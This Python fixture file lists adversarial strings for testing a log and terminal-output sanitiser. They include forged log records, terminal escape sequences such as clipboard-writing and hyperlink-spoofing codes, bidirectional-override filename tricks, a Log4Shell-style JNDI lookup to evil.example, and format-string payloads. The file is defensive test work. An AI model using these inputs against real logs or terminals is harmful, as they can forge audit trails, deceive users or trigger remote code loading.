"""Text that tries to be a line of its own in a log, on a terminal, or in a list.

What must hold: a record stays one line, nothing that a terminal obeys is left in it, and the JSON
of a line gives back the very text.
"""

from __future__ import annotations

LINES: list[str] = [
    # --- a second record
    "a\n2026-11-23T00:00:00.000Z INFO    run.succeeded run=1",
    "a\r\n2026-11-23T00:00:00.000Z CRITICAL supervisor.tripped",
    "a\r2026-11-23T00:00:00.000Z INFO    nothing happened",
    'a\n{"level":"info","event":"run.succeeded"}',
    'a"}\n{"level":"info","event":"key.revoked","by":"nobody"}',
    '","level":"debug","x":"',
    "a\n\n\n\nb",
    "\n",
    "\r",
    "\r\n",
    "a\n  | Traceback (most recent call last):",
    # --- a second field
    "a level=debug event=run.succeeded",
    'a" event="run.succeeded',
    "a=b",
    "a\\",
    'a\\" b="c',
    "a\tb\tc",
    # --- breaks that only some readers know
    "a\x0bb",
    "a\x0cb",
    "a\x1cb",
    "a\x1db",
    "a\x1eb",
    "a\x85b",
    "a\u2028b",
    "a\u2029b",
    # --- what a terminal obeys
    "\x1b[2J\x1b[H",
    "\x1b[1A\x1b[2Knothing to see",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;a title\x07",
    "\x1b]8;;https://evil.example\x1b\\good.example\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1bP1;1|\x1b\\",
    "\x1b[6n",
    "\x1bc",
    "\x9b31m",
    "\x9d0;a title\x9c",
    "\x08\x08\x08\x08gone",
    "\x07",
    "\x7f",
    "\x00",
    "a\x00b",
    # --- what a reader's eye obeys
    "\u202egnp.exe",
    "\u202aabc\u202c",
    "\u2066abc\u2069",
    "\u200fabc",
    "\ufeffabc",
    "\u061cabc",
    # --- what cannot be encoded, and what is endless
    "\ud800",
    "a\udcffb",
    "\udfff\ud800",
    "a" * 100_000,
    "\n" * 10_000,
    "\x1b[31m" * 5_000,
    # --- what others expand
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%n",
    "{0.__class__}",
    "%(password)s",
    "[red]rich[/red]",
    "[link=https://evil.example]good[/link]",
]
